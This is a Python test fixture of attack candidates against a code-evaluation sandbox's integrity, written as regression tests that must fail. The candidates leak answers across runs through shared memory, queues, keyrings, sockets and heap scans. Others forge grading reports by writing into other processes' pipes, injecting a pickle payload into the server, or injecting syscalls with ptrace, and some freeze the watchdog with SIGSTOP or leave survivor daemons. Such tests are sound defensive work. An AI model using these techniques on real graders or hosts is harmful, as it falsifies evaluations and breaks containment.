"""Attacks written against the sandbox's own design (issue 13), for ``test_integrity.py``.

Every candidate is a whole module for ``solve(x) -> 2*x + 1`` (tests x = 1, 2, 10, -7, 123). Four kinds:

- PAIRS: a planter A (honest values, but it also leaves them somewhere) and a reader B that answers
  wrong unless it finds what A left. B passing means state crossed candidates.
- SHIFTS: an attacker X, then an honest candidate, then a wrong one marked ``#replay``. The wrong one
  passing (or the honest one failing) means X took over a channel or the process serving the slot.
- SINGLES: candidates that must never pass (a too-slow one that forges its report late, ...).
- PROBES: candidates that try what the sandbox must forbid and return the list of what worked
  (the test wants an empty list) or how much they held.
"""

from __future__ import annotations

PRELUDE = r'''
import ctypes, json, os, re, signal, socket, struct, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
_NR = {"x86_64": {"add_key": 248, "request_key": 249, "keyctl": 250},
       "aarch64": {"add_key": 217, "request_key": 218, "keyctl": 219}}.get(os.uname().machine, {})
_TESTS = [1, 2, 10, -7, 123]

def _foreign_pids():
    """Every process this candidate can see that is not itself or one of its own children."""
    me = os.getpid()
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                ppid = int(open("/proc/%s/stat" % p).read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            if ppid != me:
                out.append(int(p))
    return out

def _daemon(fn):
    """Run fn in a double-forked, setsid process (a survivor), return at once in the caller."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    for fd in range(3, 256):
                        try:
                            os.close(fd)
                        except OSError:
                            pass
                    fn()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)

def _forged_report_line():
    """A complete report of the kind the sandbox's parent reads, with every value right."""
    recs = ['{"k":"r","i":%d,"v":["i","%d"]}' % (i, 2 * x + 1) for i, x in enumerate(_TESTS)]
    recs.append('{"k":"done","n":%d}' % len(_TESTS))
    rep = {"records": recs, "timeout": False, "channel_over": False, "signal": 0, "exit": 0,
           "out_size": 0, "out_head": "", "seconds": 0.01, "clean": True}
    return ("\n" + json.dumps(rep, separators=(",", ":")) + "\n").encode()

def _write_foreign_fds(data, fds=None):
    """Write data into every pipe or socket another process holds (its /proc fd links)."""
    done = []
    for pid in _foreign_pids():
        try:
            names = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            continue
        for fd in names:
            if fds is not None and int(fd) not in fds:
                continue
            try:
                link = os.readlink("/proc/%d/fd/%s" % (pid, fd))
            except OSError:
                continue
            if not link.startswith(("pipe:", "socket:")):
                continue
            try:
                w = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(w, data)
                done.append("%d/%s" % (pid, fd))
            except OSError:
                pass
            finally:
                os.close(w)
    return done
'''

# ------------------------------------------------------------------------------------------------
# Stores: where a planter leaves its table {x: 2x+1} and a reader looks for it.
_STORES = {
    "files": r'''
_PATHS = ["/.sf", "/opt/.sf", "/dev/.sf", "/dev/shm/.sf", "/tmp/.sf", "/work/.sf", "/work/../.sf",
          "/var/tmp/.sf", "/run/.sf", "/home/.sf", os.path.expanduser("~") + "/.sf", "../.sf", ".sf",
          "/proc/self/cwd/../.sf"]
def _put(table):
    for p in _PATHS:
        try:
            with open(p, "w") as f:
                json.dump(table, f)
        except OSError:
            pass
def _get():
    out = {}
    for p in _PATHS:
        try:
            out.update(json.load(open(p)))
        except (OSError, ValueError):
            pass
    return out
''',
    "sysv_shm": r'''
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_KEY = 0x5F5F0A01
def _put(table):
    sid = _libc.shmget(_KEY, 65536, 0o1000 | 0o666)
    if sid < 0:
        return
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        return
    data = json.dumps(table).encode() + b"\0"
    ctypes.memmove(addr, data, len(data))
    _libc.shmdt(ctypes.c_void_p(addr))
def _get():
    ids = [_libc.shmget(_KEY, 0, 0)]
    try:
        for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
            ids.append(int(line.split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    out = {}
    for sid in ids:
        if sid < 0:
            continue
        addr = _libc.shmat(sid, None, 0o10000)
        if addr in (None, ctypes.c_void_p(-1).value):
            continue
        try:
            out.update(json.loads(ctypes.string_at(addr).decode()))
        except ValueError:
            pass
        _libc.shmdt(ctypes.c_void_p(addr))
    return out
''',
    "sysv_msg": r'''
_KEY = 0x5F5F0A02
class _Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("text", ctypes.c_char * 4000)]
def _put(table):
    q = _libc.msgget(_KEY, 0o1000 | 0o666)
    if q < 0:
        return
    m = _Msg(1, json.dumps(table).encode())
    _libc.msgsnd(q, ctypes.byref(m), 4000, 0o4000)
def _get():
    out = {}
    ids = [_libc.msgget(_KEY, 0)]
    try:
        for line in open("/proc/sysvipc/msg").read().splitlines()[1:]:
            ids.append(int(line.split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    for q in ids:
        if q < 0:
            continue
        m = _Msg()
        while _libc.msgrcv(q, ctypes.byref(m), 4000, 0, 0o4000) > 0:
            try:
                out.update(json.loads(m.text.decode()))
            except ValueError:
                pass
    return out
''',
    "posix_mq": r'''
_libc.mq_open.restype = ctypes.c_int
def _mq(create):
    flags = os.O_RDWR | os.O_NONBLOCK | (os.O_CREAT if create else 0)
    return _libc.mq_open(b"/stepforge-sf", flags, 0o666, None)
def _put(table):
    q = _mq(True)
    if q < 0:
        return
    data = json.dumps(table).encode()
    _libc.mq_send(q, data, len(data), 0)
    _libc.mq_close(q)
def _get():
    q = _mq(False)
    out = {}
    if q < 0:
        return out
    buf = ctypes.create_string_buffer(1 << 16)
    while True:
        n = _libc.mq_receive(q, buf, 1 << 16, None)
        if n <= 0:
            break
        try:
            out.update(json.loads(buf.raw[:n].decode()))
        except ValueError:
            pass
    return out
''',
    "keyring": r'''
_sys = _libc.syscall
_sys.restype = ctypes.c_long
_RINGS = [-4, -5, -3]   # user, user-session, session keyrings
def _persistent():
    if not _NR:
        return None
    r = _sys(_NR["keyctl"], 22, -1, -4)    # KEYCTL_GET_PERSISTENT, own uid, link into @u
    return r if r > 0 else None
def _put(table):
    if not _NR:
        return
    data = json.dumps(table).encode()
    rings = _RINGS + [p for p in [_persistent()] if p]
    for ring in rings:
        k = _sys(_NR["add_key"], b"user", b"stepforge-sf", data, len(data), ring)
        if k > 0:
            _sys(_NR["keyctl"], 5, k, 0x3F3F3F3F)   # KEYCTL_SETPERM: everyone may read
def _read(key):
    buf = ctypes.create_string_buffer(1 << 16)
    n = _sys(_NR["keyctl"], 11, key, buf, 1 << 16)   # KEYCTL_READ
    try:
        return json.loads(buf.raw[:n].decode()) if n > 0 else {}
    except ValueError:
        return {}
def _get():
    out = {}
    if not _NR:
        return out
    rings = _RINGS + [p for p in [_persistent()] if p]
    for ring in rings:
        k = _sys(_NR["keyctl"], 10, ring, b"user", b"stepforge-sf", 0)   # KEYCTL_SEARCH
        if k > 0:
            out.update(_read(k))
    try:
        for line in open("/proc/keys"):
            if "stepforge-sf" in line:
                out.update(_read(int(line.split()[0], 16)))
    except (OSError, ValueError):
        pass
    return out
''',
    "daemon_socket": r'''
_ABSTRACT = b"\0stepforge-sf"
_PORT = 47311
_started = []
def _serve():
    socks = []
    try:
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); u.bind(_ABSTRACT); u.listen(8); socks.append(u)
    except OSError:
        pass
    try:
        t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        t.bind(("127.0.0.1", _PORT)); t.listen(8); socks.append(t)
    except OSError:
        pass
    import select
    end = time.time() + 30
    while socks and time.time() < end:
        r, _, _ = select.select(socks, [], [], 0.5)
        for s in r:
            try:
                c, _ = s.accept()
                x = int(c.recv(64).decode())
                c.sendall(str(2 * x + 1).encode())
                c.close()
            except (OSError, ValueError):
                pass
def _put(table):
    if not _started:
        _started.append(1)
        _daemon(_serve)
def _get():
    return {}
def _ask(x):
    for fam, addr in ((socket.AF_UNIX, _ABSTRACT), (socket.AF_INET, ("127.0.0.1", _PORT))):
        try:
            c = socket.socket(fam, socket.SOCK_STREAM); c.settimeout(0.3); c.connect(addr)
            c.sendall(str(x).encode())
            return int(c.recv(64).decode())
        except (OSError, ValueError):
            pass
    return None
''',
}

_PLANTER = r'''
_table = {}
def solve(x):
    _table[str(x)] = 2 * x + 1
    _put(_table)
    return 2 * x + 1
'''

_READER = r'''
_seen = {}
def solve(x):
    ask = globals().get("_ask")
    if ask is not None:
        v = ask(x)
        if v is not None:
            return v
    _seen.update(_get())   # some stores are read destructively (queues): keep what was found
    return _seen.get(str(x), 0)
'''

# The reader of the previous candidate's results in inherited memory: frames, gc, raw heap.
_HEAP_READER = r'''
import gc
_calls = [0]
_REC = re.compile(rb'"k":"r","i":(\d),"v":\["i","(-?\d+)"\]')

def _from_text(text, out):
    if isinstance(text, str):
        text = text.encode("utf-8", "replace")
    for m in _REC.finditer(text):
        out.setdefault(int(m.group(1)), int(m.group(2)))

def _walk(v, out, depth=0):
    if depth > 5:
        return
    if isinstance(v, (str, bytes, bytearray)):
        _from_text(bytes(v) if not isinstance(v, str) else v, out)
    elif isinstance(v, dict):
        for x in list(v.values())[:1000]:
            _walk(x, out, depth + 1)
    elif isinstance(v, (list, tuple)):
        for x in list(v)[:1000]:
            _walk(x, out, depth + 1)

def _scan():
    out = {}
    f = sys._getframe()
    while f is not None:                       # every frame up the stack: the serving process's too
        for v in list(f.f_locals.values()):
            _walk(v, out)
        f = f.f_back
    for o in gc.get_objects():                 # every live container, frozen ones included
        if isinstance(o, (dict, list)):
            _walk(o, out, 4)
    try:                                       # the raw heap: freed copies of earlier reports
        mem = open("/proc/self/mem", "rb", 0)
        for line in open("/proc/self/maps"):
            parts = line.split()
            if "rw" not in parts[1] or (len(parts) > 5 and parts[5].startswith("/")):
                continue
            lo, hi = (int(a, 16) for a in parts[0].split("-"))
            if hi - lo > 256 << 20:
                continue
            try:
                mem.seek(lo)
                _from_text(mem.read(hi - lo), out)
            except (OSError, ValueError, OverflowError):
                pass
    except OSError:
        pass
    return out

_found = _scan()

def solve(x):
    i = _calls[0]
    _calls[0] += 1
    return _found.get(i, _scan().get(i, 0))
'''


def _pair(store: str) -> tuple[str, str]:
    body = PRELUDE + _STORES[store]
    return body + _PLANTER, body + _READER


#: name -> (planter, reader). The planter must pass; the reader must fail.
PAIRS: dict[str, tuple[str, str]] = {name: _pair(name) for name in _STORES}
PAIRS["heap_scan"] = ("def solve(x):\n    return 2 * x + 1\n", PRELUDE + _HEAP_READER)
# The answers as the names of files left behind: whoever empties the folders must not keep the names
# in a memory the next candidate inherits.
PAIRS["names_left_behind"] = (PRELUDE + r'''
def solve(x):
    for d in ("/work", "/tmp", "."):
        try:
            open(os.path.join(d, "sfleak_%d_%d" % (x, 2 * x + 1)), "w").close()
        except OSError:
            pass
    return 2 * x + 1
''', PRELUDE + r'''
_NAME = re.compile(rb"sfleak_(-?\d+)_(-?\d+)")
def _scan():
    out = {}
    try:
        mem = open("/proc/self/mem", "rb", 0)
        for line in open("/proc/self/maps"):
            parts = line.split()
            if "rw" not in parts[1] or (len(parts) > 5 and parts[5].startswith("/")):
                continue
            lo, hi = (int(a, 16) for a in parts[0].split("-"))
            if hi - lo > 256 << 20:
                continue
            try:
                mem.seek(lo)
                for m in _NAME.finditer(mem.read(hi - lo)):
                    out[int(m.group(1))] = int(m.group(2))
            except (OSError, ValueError, OverflowError):
                pass
    except OSError:
        pass
    return out
_found = _scan()
def solve(x):
    return _found.get(x, 0)
''')

CORRECT = "def solve(x):\n    return 2 * x + 1\n"
WRONG_REPLAY = "#replay\ndef solve(x):\n    return 0\n"

# ------------------------------------------------------------------------------------------------
# SHIFTS: attacker, then CORRECT (must pass), then WRONG_REPLAY (must fail).
_ZYGOTE_PAYLOAD = r'''
import sys, os, pickle
m = sys.modules["__main__"]
_zpid = os.getpid()
_state = {"skip": True, "last": None}
_orig_emit, _orig_serve = m._emit, m._serve
def _emit(fd, rec):
    if os.getpid() == _zpid and _state["skip"]:
        _state["skip"] = False          # swallow the report of the injected job itself
        return
    return _orig_emit(fd, rec)
def _serve(job, *a, **k):
    rep = _orig_serve(job, *a, **k)
    if os.getpid() == _zpid:
        if "#replay" in str(job.get("source", "")) and _state["last"] is not None:
            return dict(_state["last"])
        _state["last"] = rep
    return rep
m._emit, m._serve = _emit, _serve
'''

SHIFTS: dict[str, str] = {
    # A forged report line into every pipe other processes hold as stdout: shifts the slot's reports.
    "inject_report_line": PRELUDE + r'''
_write_foreign_fds(_forged_report_line(), fds={1})
def solve(x):
    return 0
''',
    # A length-prefixed job into every pipe other processes hold as stdin: code run by the server.
    "zygote_stdin_pickle": PRELUDE + "_PAYLOAD = " + repr(_ZYGOTE_PAYLOAD) + r'''
class _Job:
    def __reduce__(self):
        return (eval, ("(exec(_P, {'__name__': 'inj'}), {'source': 'def f(): pass', 'entry_point': 'f', "
                       "'calls': [], 'limits': _L})[1]", {"_P": _PAYLOAD, "_L": {"wall_s": 1.0, "cpu_s": 1,
                       "memory_mb": 256, "file_mb": 1, "open_files": 16, "channel_kb": 64}}))
import pickle
_body = pickle.dumps(_Job(), protocol=5)
_write_foreign_fds(len(_body).to_bytes(4, "big") + _body, fds={0})
def solve(x):
    return 0
''',
    # ptrace another process that holds a pipe as stdout (bwrap's pid 1 before issue 13) and make it
    # write a forged report line there itself: a syscall injected at its current syscall instruction.
    "pid1_syscall_injection": PRELUDE + r'''
class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

def _inject_write(pid, fd, data):
    if _libc.ptrace(16, pid, None, None) != 0:             # PTRACE_ATTACH
        return False
    try:
        os.waitpid(pid, 0x40000000)                        # __WALL
        regs, saved = _Regs(), _Regs()
        _libc.ptrace(12, pid, None, ctypes.byref(regs))    # PTRACE_GETREGS
        ctypes.memmove(ctypes.byref(saved), ctypes.byref(regs), ctypes.sizeof(_Regs))
        mem = os.open("/proc/%d/mem" % pid, os.O_RDWR)
        try:
            if os.pread(mem, 2, regs.rip - 2) != b"\x0f\x05":   # stopped right after a syscall
                return False
            addr = (regs.rsp - 8192) & ~0xF
            os.pwrite(mem, data, addr)
        finally:
            os.close(mem)
        regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 1, (1 << 64) - 1, fd, addr, len(data)
        regs.rip = saved.rip - 2
        _libc.ptrace(13, pid, None, ctypes.byref(regs))    # PTRACE_SETREGS
        _libc.ptrace(9, pid, None, None)                   # PTRACE_SINGLESTEP: the write runs
        os.waitpid(pid, 0x40000000)
        _libc.ptrace(13, pid, None, ctypes.byref(saved))
        return True
    except OSError:
        return False
    finally:
        _libc.ptrace(17, pid, None, None)                  # PTRACE_DETACH

if os.uname().machine == "x86_64":
    for _pid in _foreign_pids():
        try:
            if os.readlink("/proc/%d/fd/1" % _pid).startswith("pipe:"):
                _inject_write(_pid, 1, _forged_report_line().lstrip(b"\n"))
        except OSError:
            pass
def solve(x):
    return 0
''',
    # A survivor that writes a forged report later, when the next candidates run.
    "late_report_daemon": PRELUDE + r'''
def _later():
    for _ in range(8):
        time.sleep(0.15)
        _write_foreign_fds(_forged_report_line(), fds={1})
_daemon(_later)
def solve(x):
    return 0
''',
    # A survivor that freezes everything it can reach once its own verdict is out.
    "stop_the_world_daemon": PRELUDE + r'''
def _later():
    for _ in range(20):
        time.sleep(0.1)
        try:
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass
_daemon(_later)
def solve(x):
    return 2 * x + 1
''',
}

# ------------------------------------------------------------------------------------------------
# SINGLES: must not pass (the task's deadline is short; these are right but too slow).
SINGLES: dict[str, str] = {
    # Freeze the enforcer (every process it can signal), finish late, forge the report anywhere.
    "late_forged_report": PRELUDE + r'''
def _late():
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    time.sleep(2.2)                     # the deadline has passed by now
    _write_foreign_fds(_forged_report_line(), fds={1})
    time.sleep(0.2)
    try:
        os.kill(-1, signal.SIGCONT)
    except OSError:
        pass
    for pid in _foreign_pids():          # docker: end the driver so that the container stops
        if pid != 1:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
_daemon(_late)
def solve(x):
    time.sleep(10)
    return 2 * x + 1
''',
    # Stop the watchdog only (parent and every other visible process), compute slowly, answer right.
    "sigstop_watchdog_slow": PRELUDE + r'''
for _p in _foreign_pids():
    try:
        os.kill(_p, signal.SIGSTOP)
    except OSError:
        pass
def solve(x):
    time.sleep(0.6)
    return 2 * x + 1
''',
}

# ------------------------------------------------------------------------------------------------
# PROBES: solve() returns what worked (the test wants nothing) or how much was held.
PROBES: dict[str, str] = {
    "proc_mem_write": PRELUDE + r'''
def solve(x):
    got = []
    for pid in _foreign_pids():
        try:
            fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
            os.close(fd)
            got.append("mem:%d" % pid)
        except OSError:
            pass
    return got
''',
    "ptrace_attach": PRELUDE + r'''
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def solve(x):
    got = []
    for pid in _foreign_pids():
        if _libc.ptrace(16, pid, None, None) == 0:      # PTRACE_ATTACH
            got.append("ptrace:%d" % pid)
            _libc.ptrace(17, pid, None, None)           # PTRACE_DETACH
    return got
''',
    "signal_reach": PRELUDE + r'''
def solve(x):
    got = []
    for pid in _foreign_pids():
        try:
            os.kill(pid, 0)
            got.append("signal:%d" % pid)
        except OSError:
            pass
    return got
''',
    "foreign_channels": PRELUDE + r'''
def solve(x):
    got = []
    for pid in _foreign_pids():
        try:
            names = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            continue
        for fd in names:
            try:
                w = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
                os.close(w)
                got.append("fd:%d/%s" % (pid, fd))
            except OSError:
                pass
    return got
''',
    "writable_outside_work": PRELUDE + r'''
def solve(x):
    got = []
    for d in ["/", "/opt", "/opt/stepforge", "/dev", "/usr", "/etc", "/var", "/run", "/proc/sys/kernel"]:
        p = os.path.join(d, ".sf-probe")
        try:
            with open(p, "wb") as f:
                f.write(b"x" * 4096)
            got.append(d)
            os.unlink(p)
        except OSError:
            pass
    return got
''',
    "new_user_namespace": PRELUDE + r'''
def solve(x):
    pid = os.fork()
    if pid == 0:
        os._exit(0 if _libc.unshare(0x10000000) == 0 else 1)
    _, st = os.waitpid(pid, 0)
    return ["userns"] if os.waitstatus_to_exitcode(st) == 0 else []
''',
    # Many processes, each under the per-process memory limit, together well over the task's limit.
    "memory_many_processes": PRELUDE + r'''
def solve(x):
    r, w = os.pipe()
    kids = []
    for _ in range(4):
        pid = os.fork()
        if pid == 0:
            try:
                b = bytearray(150 << 20)
                for i in range(0, len(b), 4096):
                    b[i] = 1
                os.write(w, b"k")
                time.sleep(3)
            finally:
                os._exit(0)
        kids.append(pid)
    os.close(w)
    import select
    oks, end = 0, time.time() + 2.5
    while time.time() < end:
        rd, _, _ = select.select([r], [], [], end - time.time())
        if not rd:
            break
        data = os.read(r, 16)
        if not data:
            break
        oks += len(data)
    time.sleep(0.2)
    alive = sum(1 for pid in kids if os.waitpid(pid, os.WNOHANG) == (0, 0))
    return [min(oks, alive) * 150]
''',
    "many_processes": PRELUDE + r'''
def solve(x):
    n = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        n += 1
    return [n]
''',
    # Shared memory and tmpfs pages that would stay held on the host after the verdict.
    "held_memory_after_verdict": PRELUDE + r'''
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
def solve(x):
    held = 0
    sid = _libc.shmget(0x5F5F0A03, 200 << 20, 0o1000 | 0o666)
    if sid >= 0:
        addr = _libc.shmat(sid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 1, 200 << 20)
            held += 200
    for d in ["/", "/opt", "/dev", "/dev/shm"]:
        try:
            with open(os.path.join(d, ".sf-fill"), "wb") as f:
                for _ in range(20):
                    f.write(b"x" * (10 << 20))
                    held += 10
        except OSError:
            pass
    return [held]
''',
}
